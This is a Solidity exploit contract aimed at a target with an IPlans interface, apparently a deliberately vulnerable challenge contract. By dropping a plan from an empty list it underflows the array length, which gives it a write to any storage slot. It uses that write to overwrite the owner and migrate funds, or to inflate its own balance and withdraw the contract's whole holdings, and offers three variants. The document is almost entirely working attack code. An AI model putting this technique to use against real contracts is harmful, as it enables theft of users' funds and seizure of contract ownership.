// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPlans {
    function addPlan(uint256 amount) external;

    function dropLast() external;

    function changePlan(uint256 index, uint256 amount) external;

    function swapPlans(uint256 one, uint256 other) external;

    function setClosed(bool on) external;

    function migrate(address to) external;

    function withdraw(uint256 amount) external;
}

/// Drops a plan it does not have, so that its list reaches over the whole storage, and writes what it likes.
contract ListStretcher {
    uint256 private constant OWNER = 0;
    uint256 private constant BALANCES = 5;
    uint256 private constant PLANS = 6;

    function run(IPlans plans) external {
        plans.dropLast();
        plans.changePlan(positionOf(OWNER), uint160(address(this)));
        plans.setClosed(true);
        plans.migrate(msg.sender);
    }

    function runByBalance(IPlans plans) external {
        plans.dropLast();
        uint256 slot = uint256(keccak256(abi.encode(address(this), BALANCES)));
        plans.changePlan(positionOf(slot), address(plans).balance);
        leave(plans, address(plans).balance);
    }

    /// The same after one honest plan; the amount gets to its place by an exchange.
    function runBySwap(IPlans plans, uint256 amount) external {
        plans.addPlan(amount);
        plans.dropLast();
        plans.dropLast();
        plans.changePlan(7, amount);
        plans.swapPlans(7, positionOf(uint256(keccak256(abi.encode(address(this), BALANCES)))));
        leave(plans, amount);
    }

    function leave(IPlans plans, uint256 amount) private {
        plans.withdraw(amount);
        payable(msg.sender).transfer(address(this).balance);
    }

    function positionOf(uint256 slot) private view returns (uint256) {
        bytes32 list = keccak256(abi.encode(keccak256(abi.encode(address(this), PLANS))));
        unchecked {
            return slot - uint256(list);
        }
    }

    receive() external payable {}
}
